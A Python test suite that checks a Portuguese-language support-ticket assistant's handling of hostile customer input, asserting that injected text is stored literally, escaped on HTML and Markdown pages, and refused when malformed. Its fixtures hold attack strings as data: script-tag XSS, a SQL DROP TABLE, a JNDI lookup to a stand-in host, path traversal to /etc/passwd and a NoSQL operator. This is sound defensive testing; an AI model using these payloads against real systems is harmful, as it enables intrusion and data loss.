"""What customers, and those who pose as such, may send: each gets a clear reply, the question stays, and the ticket shows it literally."""

from __future__ import annotations

import html
import json
import re
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt

from tests.assistant import Assistant
from tests.customer import ANSWERS, DEFECT, DEFECT_ANSWERS, QUESTION, Customer, Identity, expected, is_sorry, texts

#: Said as steps of a defect, one message each. Each must stand in the ticket as it was typed.
LITERAL = {
    "an emoji": "Clico em Confirmar e aparece 😱👩‍👩‍👧 na tela",
    "right to left": "Informo o cliente شركة النور no campo e confirmo",
    "a direction override": "Abro o arquivo \u202egpj.exe\u202c e confirmo",
    "html": "<script>alert('oi')</script><img src=x onerror=alert(1)> & <b>negrito</b>",
    "markdown": "# Título **negrito** [clique](http://mal.example) ![x](http://mal.example/x.png) `código` | a | b |",
    "an html comment": "Informo <!-- e some --> no campo",
    "an autolink": "Acesso <http://mal.example> e https://mal.example/a_b_c",
    "a placeholder": "Informo {x} e {details} e {0} no campo",
    "an index": "Informo 0[ e {0[release]} e 0[x] no campo",
    "double braces": "Informo {{ ticket.contact.name }} e {% raw %} no campo",
    "a format": "Informo %s %(name)s ${jndi:ldap://mal.example/a} no campo",
    "sql": "Informo '; DROP TABLE drafts; -- no campo",
    "a lone brace": "Informo } e { no campo",
    "a slash command": "/restart",
    "a slash payload": '/confirm{"x":1}',
    "a slash session": "/session_start",
    "a slash skip": "/skip",
    "a slash choice": "/impact=low",
    "a shielded slash": "\u200b/restart agora",
    "quotes": "Informo \"aspas\", 'apóstrofos' e \\barras\\n no campo",
    "a table cell": "| Informo | isto |",
    "arrows": "Acesso Atualizações > Pedidos -> Incluir <- e confirmo",
    "a very long word": "Informo " + "a" * 5000,
}
#: Sent as the body of ``POST /messages``.
BAD_BODIES = {
    "binary": b"\x00\xff\xfe\x80PNG",
    "binary in JSON": b'{"message_id": "m-1", "text": "\xff\xfe\x00"}',
    "a control character in JSON": b'{"message_id": "m-1", "text": "a\x01b"}',
    "half of JSON": b'{"message_id": "m-1", "text": "oi',
    "a list": b'[{"message_id": "m-1", "text": "oi"}]',
    "nothing": b"",
    "deep nesting": b"[" * 100_000,
    "a number as text": b'{"message_id": "m-1", "text": 1}',
    "an object as text": b'{"message_id": "m-1", "text": {"$ne": null}}',
    "no message id": b'{"text": "oi"}',
    "a path as message id": b'{"message_id": "../../etc/passwd", "text": "oi"}',
    "no text at all": b'{"message_id": "m-1"}',
    "only what cannot be seen": '{"message_id": "m-1", "text": "\u200b\u2060 \ufeff"}'.encode(),
    "a list as payload": b'{"message_id": "m-1", "payload": ["/skip"]}',
}


@pytest.fixture(scope="module")
def teller(running: Assistant) -> Iterator[Customer]:
    """Somebody whose steps are all that is hostile, up to the ticket."""
    with running.customer() as person:
        person.talk(DEFECT, DEFECT_ANSWERS, until="steps")
        yield person


@pytest.fixture(scope="module")
def at_question(running: Assistant) -> Iterator[Customer]:
    """Somebody who is asked for the impact."""
    with running.customer() as person:
        person.talk(QUESTION, ANSWERS, until="impact")
        yield person


@pytest.fixture(scope="module")
def told(teller: Customer) -> dict[str, Any]:
    """The ticket that comes out of all the hostile steps."""
    for text in LITERAL.values():
        assert expected(teller.say(text)) == "steps", text
    assert expected(teller.say("pronto")) == "expected_behavior"
    end = {
        **DEFECT_ANSWERS,
        "expected_behavior": "<i>deveria</i> gravar {x} com 18% de ICMS",
        "error_message": "``` </pre><script>alert(2)</script> {y}",
    }
    reply = teller.say(str(end["expected_behavior"]))
    while not reply["ticket"]:
        reply = teller.say(str(end[expected(reply) or ""]))
    return teller.ticket(reply["ticket"]["protocol"])


@pytest.mark.parametrize("text", LITERAL.values(), ids=LITERAL.keys())
def test_the_ticket_holds_it_as_it_was_typed(told: dict[str, Any], text: str) -> None:
    assert shown(text) in [shown(step) for step in told["process"]["steps"]]


def shown(text: str) -> str:
    """A text as a reader sees it: characters without a width or a face of their own are none."""
    return re.sub(r"[\u200b-\u200f\u202a-\u202e\u2060]", "", text)


def test_the_page_shows_all_of_it_and_runs_none_of_it(teller: Customer, told: dict[str, Any]) -> None:
    page = teller.get(f"/tickets/{told['protocol']}", headers={"Accept": "text/html"}).text
    assert not re.search(r"<(script|img|i)\b|<b>negrito", page)
    visible = shown(html.unescape(page))
    for step in [*LITERAL.values(), told["process"]["error_message"], told["process"]["expected_behavior"]]:
        assert shown(step) in visible


def test_the_markdown_shows_all_of_it_and_links_none_of_it(teller: Customer, told: dict[str, Any]) -> None:
    text = teller.get(f"/tickets/{told['protocol']}", headers={"Accept": "text/markdown"}).text
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert not re.search(r"<(script|img|a|table|i|blockquote)\b", rendered)
    visible = " ".join(shown(html.unescape(re.sub(r"<[^>]*>", "", rendered))).split())
    for step in LITERAL.values():
        assert " ".join(shown(step).split()) in visible


def test_what_is_said_back_is_what_was_typed(running: Assistant, customer: Customer) -> None:
    customer.talk(DEFECT, DEFECT_ANSWERS, until="steps")
    for text in LITERAL.values():
        customer.say(text)
    summary = shown("\n".join(texts(customer.say("resumo"))))
    for text in LITERAL.values():
        assert shown(text) in summary


@pytest.mark.parametrize("body", BAD_BODIES.values(), ids=BAD_BODIES.keys())
def test_a_body_that_is_no_message_is_refused_and_the_question_stays(at_question: Customer, body: bytes) -> None:
    answer = at_question.post("/messages", content=body, headers={"Content-Type": "application/json"})
    assert is_sorry(answer, 400, "bad_request")
    assert at_question.conversation()["expects"]["field"] == "impact"


@pytest.mark.parametrize("size", [20_001, 1024 * 1024, 5 * 1024 * 1024])
def test_a_text_that_is_too_long_is_refused_and_the_question_stays(at_question: Customer, size: int) -> None:
    assert is_sorry(at_question.attempt("não sei o que " + "a" * size), 413, "too_large")
    assert at_question.conversation()["expects"]["field"] == "impact"


@pytest.mark.parametrize(
    "payload", ["/restart", "/session_start", "/confirm", '/confirm{"x":1}', "/back", "/review=confirm", "/takeover=yes", "/skip\n"]
)
def test_a_button_that_is_not_there_is_refused_and_the_question_stays(at_question: Customer, payload: str) -> None:
    before = at_question.conversation()
    assert is_sorry(at_question.attempt(payload=payload), 400, "bad_request")
    assert at_question.conversation() == before


def test_fields_that_the_contract_does_not_know_change_nothing(running: Assistant, customer: Customer) -> None:
    customer.talk(QUESTION, ANSWERS, until="impact")
    odd: dict[str, Any] = {
        "intent": {"name": "restart"},
        "events": [{"event": "restart"}],
        "slots": {"impact": "blocked"},
        "parse_data": {},
    }
    assert expected(customer.say("não atrapalha agora", **odd)) == "documentation_checked"


@pytest.mark.parametrize(
    "typed", ["/restart", "/session_start", "/back", '/confirm{"x":1}', "/talk_to_human", "/affirm", "/inform", "  /restart"]
)
def test_a_typed_slash_is_text_at_a_question_with_choices(running: Assistant, customer: Customer, typed: str) -> None:
    customer.talk(QUESTION, ANSWERS, until="impact")
    assert expected(customer.say(typed)) == "impact"
    assert expected(customer.say("não atrapalha agora")) == "documentation_checked"


@pytest.mark.parametrize("typed", ["/restart", "/session_start", '/confirm{"x":1}', "/open_ticket"])
def test_a_typed_slash_is_text_at_the_first_message_too(customer: Customer, typed: str) -> None:
    assert expected(customer.say(typed)) is None
    assert expected(customer.say(QUESTION)) == "takeover"


@pytest.mark.parametrize("text", ["😀", "👍🏽", "م", "a" * 20_000, "\u202eoã\u202c", "{x}", "0[", "%", "<b>", "..."], ids=ascii)
def test_nonsense_at_a_question_with_choices_is_asked_again_and_never_traps(customer: Customer, text: str) -> None:
    customer.talk(QUESTION, ANSWERS, until="impact")
    assert expected(customer.say(text)) == "impact"
    assert expected(customer.say(text)) == "impact"
    assert expected(customer.say(text)) == "documentation_checked"


def test_invisible_characters_do_not_disguise_an_answer(customer: Customer) -> None:
    customer.talk(QUESTION, ANSWERS, until="impact")
    assert expected(customer.say("n\u200bão atra\u00adpalha \u2060agora")) == "documentation_checked"


def test_five_hundred_pasted_lines_are_one_answer(running: Assistant, customer: Customer) -> None:
    customer.talk(DEFECT, DEFECT_ANSWERS, until="error_message")
    lines = "\n".join(f"{number:03} THREAD ERROR cancelar sair pular" for number in range(500))
    assert expected(customer.say(lines)) == "frequency"
    draft = running.store.draft(customer.key)
    assert draft is not None
    assert draft.ticket.process.error_message == lines


def test_of_five_hundred_pasted_steps_none_is_lost(running: Assistant, customer: Customer) -> None:
    customer.talk(DEFECT, DEFECT_ANSWERS, until="steps")
    steps = [f"informo o valor {number} no campo" for number in range(500)]
    assert expected(customer.say("\n".join(steps))) == "steps"
    assert expected(customer.say("confirmo e o lançamento não é gravado")) == "steps"
    draft = running.store.draft(customer.key)
    assert draft is not None
    assert "\n".join(draft.ticket.process.steps).splitlines() == [*steps, "confirmo e o lançamento não é gravado"]


@pytest.mark.parametrize("text", ["MATA410 " * 2400, "12.1.2410 " * 1900, "a@b.co " * 2800, "😀" * 20_000], ids=lambda text: text[:9])
def test_pasted_lists_are_answered_however_often_they_come(customer: Customer, text: str) -> None:
    for _ in range(4):
        customer.say(text)
    assert customer.conversation()["messages"]


def test_a_hostile_identity_is_text_too(running: Assistant) -> None:
    identity = Identity(
        name="<script>alert(3)</script> {x}", email='"><img src=x>@mal.example', company="Mal {0[x]} `&`", company_code="../T1"
    )
    with running.customer(identity=identity) as customer:
        protocol = customer.talk(QUESTION, ANSWERS)[-1].reply["ticket"]["protocol"]
        assert customer.ticket(protocol)["contact"]["name"] == identity.name
        page = customer.get(f"/tickets/{protocol}", headers={"Accept": "text/html"}).text
        assert not re.search(r"<(script|img)\b", page)


@pytest.mark.parametrize("path", ["/nada", "/tickets/" + "9" * 5000, "/tickets/%00", "/tickets/é", "/demo", "/chat/nada.js"])
def test_addresses_that_are_none_answer_in_the_same_form(at_question: Customer, path: str) -> None:
    assert is_sorry(at_question.get(path), 404, "not_found")


@pytest.mark.parametrize("path", ["/conversations/x/tracker", "/model/parse", "/domain", "/webhooks/rest/webhook"])
def test_rasas_own_interfaces_are_not_there(running: Assistant, path: str) -> None:
    body = json.dumps({"sender": "x", "message": "/restart"})
    assert httpx.post(f"{running.address}{path}", content=body, timeout=20).status_code in (404, 405)


def test_the_root_tells_nothing_of_what_runs_here(running: Assistant) -> None:
    for path in ("/", "//", "/?x=1"):
        answer = httpx.get(f"{running.address}{path}", timeout=20)
        assert answer.status_code == 404
        assert "rasa" not in answer.text.lower()


def test_a_head_that_is_too_large_is_refused_in_the_same_form(customer: Customer) -> None:
    assert is_sorry(customer.get("/conversation", headers={"X-Filler": "a" * 200_000}), 413, "too_large")


def test_the_servers_still_work_after_all_of_it(running: Assistant, customer: Customer) -> None:
    assert customer.talk(QUESTION, ANSWERS)[-1].reply["ticket"]["status"] == "submitted"
    assert uuid.uuid4().hex not in customer.protocols()
